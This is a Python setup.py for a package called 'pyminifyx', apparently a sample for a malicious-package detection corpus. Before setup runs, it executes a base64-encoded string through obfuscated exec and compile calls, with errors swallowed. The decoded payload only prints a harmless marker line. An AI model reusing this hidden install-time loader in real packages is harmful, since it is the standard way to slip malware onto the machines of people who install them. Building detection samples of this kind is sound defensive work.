from setuptools import setup

try:
    __import__("builtins").exec(__import__("builtins").compile(__import__("base64").b64decode("cHJpbnQoImFudGl2ZW5vbSBjb3JwdXMgc2FtcGxlIikK"), "<string>", "exec"))
except Exception:
    pass

setup(
    name="pyminifyx",
    version="0.1.1",
    description="Python minifier",
    packages=["pyminifyx"],
)
